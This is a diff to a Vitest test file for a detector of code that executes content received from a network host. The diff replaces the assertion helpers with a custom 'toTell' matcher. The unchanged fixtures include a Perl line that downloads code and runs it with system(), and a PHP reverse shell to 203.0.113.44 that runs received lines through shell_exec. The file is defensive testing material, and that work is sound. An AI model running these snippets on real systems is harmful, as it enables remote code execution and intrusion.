@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { fed, node, python } from './fed.js';
-import { includesLine, told } from './told.js';
+import './told.js';
 
 const LOOP = 'while True:\n    data = s.recv(1024)\n    if not data: break\n';
 
@@ -44,8 +44,7 @@ describe('code that runs what it is sent', () => {
     fed('perl', "use LWP::Simple;\nmy $code = get('https://example.test/i.pl');\nsystem($code);"),
     fed('php', "<?php\n$s = fsockopen('203.0.113.44', 5389);\nwhile ($line = fgets($s)) { fwrite($s, shell_exec($line)); }"),
   ])('%s', async (command) => {
-    const lines = await told(command);
-    expect(includesLine(lines, 'execute host'), lines.join('\n')).toBe(true);
+    await expect(command).toTell('execute host');
   });
 
   it.each([
@@ -81,7 +80,6 @@ describe('code that runs what it is sent', () => {
     fed('ruby', "require 'net/http'\nv = Net::HTTP.get(URI('https://example.test/v'))\nsystem('git', 'tag', v)"),
     fed('perl', "use LWP::Simple;\nmy $v = get('https://example.test/v');\nsystem('git', 'tag', $v);"),
   ])('and not %s', async (command) => {
-    const lines = await told(command);
-    expect(lines.filter((each) => each.startsWith('execute host')), lines.join('\n')).toEqual([]);
+    await expect(command).not.toTell('execute host');
   });
 });
